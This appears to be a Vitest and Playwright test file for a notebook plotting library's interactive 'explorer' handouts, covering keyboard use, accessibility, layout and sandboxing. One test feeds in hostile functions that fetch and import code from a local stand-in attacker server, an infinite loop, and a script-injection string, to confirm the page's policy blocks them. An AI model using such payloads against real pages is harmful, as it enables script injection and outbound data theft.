import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { mimeBundle, plotlyMime } from "../../src/display/mime";
import { writeHandouts } from "../../src/handout/write-handouts";
import { type Explorer, explore, slider } from "../../src/index";
import { type Notebook, splitText } from "../../src/notebook/nbformat";
import { readNotebookFiles } from "../../src/notebook/notebook-file";
import { readSpec } from "../../src/page/explorer-markup";
import { openBrowser } from "../../src/pictures/browser";
import { draggedFits } from "../support/explorer-output";
import { shortOf } from "../support/short-of";

const browser: Browser | undefined = await openBrowser({ log: console.log, loopback: true });
if (!browser) console.log("skipped: no browser found, explorers were not opened in a handout");
const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

const explorer = explore(
  (klab, v) => klab.figures.densityPair(klab.normal(0, 1), klab.normal(v.mu, v.sigma)),
  { mu: slider(-3, 3, 0, { label: "均值" }), sigma: slider(0.2, 3, 1, { label: "标准差" }) },
);

type Json = { layout: { meta: { explorer: { source: string } } } };

/** A notebook whose cells show the explorer, each with a function of its own. */
function notebookOf(value: Explorer, ...sources: (string | undefined)[]): Notebook {
  const cells = sources.map((source, i) => {
    const bundle = value[mimeBundle]();
    const plotly = structuredClone(bundle[plotlyMime]) as Json;
    if (source !== undefined) plotly.layout.meta.explorer.source = source;
    return {
      cell_type: "code",
      id: `c${i}`,
      metadata: {},
      source: "explore(…)",
      execution_count: i + 1,
      outputs: [
        {
          output_type: "display_data",
          metadata: {},
          data: { [plotlyMime]: plotly, "text/plain": value.alt },
        },
      ],
    };
  });
  return { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 } as unknown as Notebook;
}

/** As JupyterLab saves it: no Plotly JSON, the HTML in lines. */
function htmlOnly(notebook: Notebook): Notebook {
  const html = splitText(explorer[mimeBundle]()["text/html"] as string);
  const outputs = [{ output_type: "display_data", metadata: {}, data: { "text/html": html } }];
  return { ...notebook, cells: notebook.cells.map((cell) => ({ ...cell, outputs })) } as Notebook;
}

const folder = mkdtempSync(join(tmpdir(), "klab-explorers-"));
/** What an enemy's server would see. */
const hits: string[] = [];
const server = createServer((request, response) => {
  hits.push(request.url ?? "");
  response.setHeader("access-control-allow-origin", "*");
  response.setHeader("content-type", "text/javascript");
  response.end("1");
});
await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

beforeAll(async () => {
  const gallery = readNotebookFiles([join("notebooks", "gallery.ipynb")])[0].notebook;
  const hostile = [
    `(klab, v) => { try { fetch("${evil}") } catch {} import("${evil}/m.js").catch(() => 0); return { data: [], layout: { title: { text: "试过了" } } } }`,
    "(klab, v) => { for (;;); }",
    `0);</script><script>document.title = "pwned"</script>(0`,
  ];
  await writeHandouts(
    [
      { name: "ours", notebook: notebookOf(explorer, undefined) },
      { name: "hostile", notebook: notebookOf(explorer, ...hostile, undefined) },
      { name: "gallery", notebook: gallery },
      { name: "learning", notebook: notebookOf(draggedFits, undefined) },
      { name: "saved by Lab", notebook: htmlOnly(notebookOf(explorer, undefined)) },
    ],
    { out: folder, audiences: ["student"], renderer: undefined, log: () => {} },
  );
}, 120_000);
afterAll(async () => {
  await browser?.close();
  server.close();
  rmSync(folder, { recursive: true, force: true });
});

interface Opened {
  readonly page: Page;
  readonly messages: string[];
  readonly requests: string[];
}

async function open(name: string, options: object = {}): Promise<Opened> {
  const context = await browser!.newContext(options);
  const page = await context.newPage();
  const messages: string[] = [];
  const requests: string[] = [];
  page.on("console", (message) => messages.push(message.text()));
  page.on("pageerror", (error) => messages.push(String(error)));
  context.on("request", (request) => requests.push(request.url()));
  await page.goto(pathToFileURL(join(folder, `${name}.html`)).href);
  return { page, messages, requests };
}

/** Its figures live, one after the other, as a reader comes by. */
async function comeBy(page: Page): Promise<void> {
  for (const figure of await page.locator("figure.plot").all()) {
    await figure.scrollIntoViewIfNeeded();
    const id = await figure.getAttribute("id");
    await page.locator(`#${id}[data-state=live]`).waitFor({ timeout: 30_000 });
  }
}

const readout = 'output[aria-live="polite"]';
/** Waits by asking: the page's policy forbids what Playwright would evaluate in it. */
const says = (page: Page, at: number, text: string): Promise<unknown> =>
  expect
    .poll(() => page.locator(readout).nth(at).textContent(), { timeout: 20_000 })
    .toContain(text);

describe.runIf(browser)("an explorer in a handout opened from disk", () => {
  test("recomputes by keyboard without a network, within the page's policy", {
    timeout: 60_000,
  }, async () => {
    const { page, messages, requests } = await open("ours");
    await comeBy(page);
    await page.getByLabel("均值").focus();
    await page.keyboard.press("End");
    await says(page, 0, "D(P‖Q) = 4.5 nat");
    const { alt, table } = explorer.at({ mu: 3 });
    // The words are those of now, under the number that the text names the figure by.
    expect(await page.locator("figcaption").textContent()).toBe(`图1　${alt}`);
    // The picture is named by its point; the number is what the live region says.
    expect(await page.locator("figure .live").getAttribute("aria-label")).toBe(
      "正负面积相抵，剩下的就是D(P‖Q)",
    );
    expect(await page.locator("figure tbody td").allTextContents()).toEqual(
      table.rows.flat().map(String),
    );
    expect(messages).toEqual([]);
    expect(requests.filter((url) => !/^(file|blob|data|about):/.test(url))).toEqual([]);
    await page.context().close();
  });

  test("that learns has what it uses in the page, within the page's policy", async () => {
    const { page, messages } = await open("learning");
    await comeBy(page);
    await page.getByLabel("右峰").fill("3");
    await says(page, 0, "反向有2处极小");
    const rows = draggedFits.at({ right: 3 }).table.rows;
    expect(await page.locator("figure tbody tr").allTextContents()).toEqual(
      rows.map((row) => row.join("")),
    );
    await page.getByLabel("右峰").fill("-1");
    await says(page, 0, "做到了：两峰合一");
    expect(messages).toEqual([]);
    await page.context().close();
    const packed = (name: string): boolean =>
      readFileSync(join(folder, `${name}.html`), "utf8").includes('id="klab-learn-packed"');
    expect(["learning", "gallery", "ours"].map(packed)).toEqual([true, true, false]);
  }, 60_000);

  test("is found in what JupyterLab saved of it, its HTML", async () => {
    const { page, messages } = await open("saved by Lab");
    await comeBy(page);
    await page.getByLabel("均值").fill("1");
    await says(page, 0, "D(P‖Q) = 0.5 nat");
    expect(messages).toEqual([]);
    await page.context().close();
  }, 60_000);

  test("with a hostile function reaches nothing, runs no script, and leaves the page usable", async () => {
    const { page } = await open("hostile");
    await comeBy(page);
    const sliders = page.getByLabel("均值");
    for (let i = 0; i < 4; i++) await sliders.nth(i).fill("1");
    await says(page, 3, "0.5 nat");
    await says(page, 0, "试过了");
    await says(page, 1, "已停止");
    await says(page, 2, "不能运行");
    expect(await page.title()).not.toBe("pwned");
    expect(hits).toEqual([]);
    // The server would have been reached: a page without our policy reaches it.
    await page.goto(`${evil}/page`);
    await page.evaluate(
      `new Worker(URL.createObjectURL(new Blob(['fetch("${evil}/f"); import("${evil}/m.js")'])))`,
    );
    await expect.poll(() => hits).toEqual(expect.arrayContaining(["/page", "/f", "/m.js"]));
    await page.context().close();
  }, 60_000);

  test("and all figures of the gallery pass axe", async () => {
    const { page, messages } = await open("gallery");
    await comeBy(page);
    await page.getByLabel("Q的均值μ", { exact: true }).fill("2");
    await says(page, 0, "nat");
    await page.evaluate(axe);
    const violations = await page.evaluate(
      `axe.run({ iframes: false, rules: { "target-size": { enabled: true } } }).then((r) => r.violations.map((v) => v.id + ": " + v.nodes.map((n) => n.html).join(" ")))`,
    );
    expect(violations).toEqual([]);
    expect(messages).toEqual([]);
    await page.context().close();
  }, 120_000);
});

/** Words of live figures that are cut off by the figure's edge, or lie on each other. Text: the page's policy. */
const misplacedWords = `[...document.querySelectorAll("figure.plot")].flatMap((figure) => {
  const edge = figure.querySelector(".main-svg").getBoundingClientRect();
  const boxes = [...figure.querySelectorAll(".main-svg text")]
    .map((text) => ({ text: text.textContent, name: text.getAttribute("class"), box: text.getBoundingClientRect() }))
    .filter(({ text, box }) => text && box.width > 0);
  const isOut = ({ box }) => box.left < edge.left - 2 || box.right > edge.right + 2 || box.top < edge.top - 2 || box.bottom > edge.bottom + 2;
  const titles = boxes.filter(({ name }) => /title|legendtext/.test(name));
  const meet = (a, b) => Math.min(a.right, b.right) - Math.max(a.left, b.left) > 3 && Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top) > 3;
  return [
    ...boxes.filter(isOut).map(({ text }) => figure.id + " cuts " + text),
    ...titles.flatMap((a, i) => titles.slice(i + 1).filter((b) => meet(a.box, b.box)).map((b) => figure.id + ": " + a.text + " on " + b.text)),
  ];
})`;

describe.runIf(browser)("the gallery", () => {
  const widths: readonly [string, number][] = [
    ["on a phone", 390],
    ["on a desk", 1100],
  ];

  test.each(shortOf(widths, widths.slice(0, 1), "words of the gallery"))(
    "%s cuts off no word and sets none on another",
    async (_, width) => {
      const { page, messages } = await open("gallery", { viewport: { width, height: 900 } });
      await comeBy(page);
      expect(await page.evaluate(misplacedWords)).toEqual([]);
      expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(
        width,
      );
      const headings = await page.locator("figure .heading").allTextContents();
      expect(headings.filter((text) => text !== "").length).toBe(width < 480 ? headings.length : 0);
      expect(messages).toEqual([]);
      await page.context().close();
    },
    120_000,
  );
});

describe("a stored explorer", () => {
  const stored = { controls: explorer.controls, source: explorer.source, locale: "zh-CN" };

  test("is read as explore wrote it", () => {
    expect(readSpec(JSON.parse(JSON.stringify(stored)))).toEqual(stored);
  });

  test("keeps the order in which its controls were written, though a notebook sorts its keys", () => {
    const sorted = { a: slider(0, 1), b: slider(0, 2), c: slider(0, 3) };
    const order = (value: object) =>
      Object.keys(readSpec({ ...stored, controls: sorted, ...value })?.controls ?? {});
    expect(order({ order: ["c", "a", "b"] })).toEqual(["c", "a", "b"]);
    expect(order({ order: ["b"] })).toEqual(["b", "a", "c"]);
    expect(order({ order: "cab" })).toEqual(["a", "b", "c"]);
  });

  test.each([
    ["no object", 7],
    ["controls that are none", { ...stored, controls: {} }],
    ["a control of another kind", { ...stored, controls: { a: { kind: "file", value: 1 } } }],
    ["a bound that is text", { ...stored, controls: { a: { ...slider(0, 1), low: "0" } } }],
    ["a function that is no text", { ...stored, source: {} }],
    ["a function too long", { ...stored, source: "x".repeat(60_000) }],
  ])("with %s is a figure without controls", (_, value) => {
    expect(readSpec(value)).toBeUndefined();
  });
});
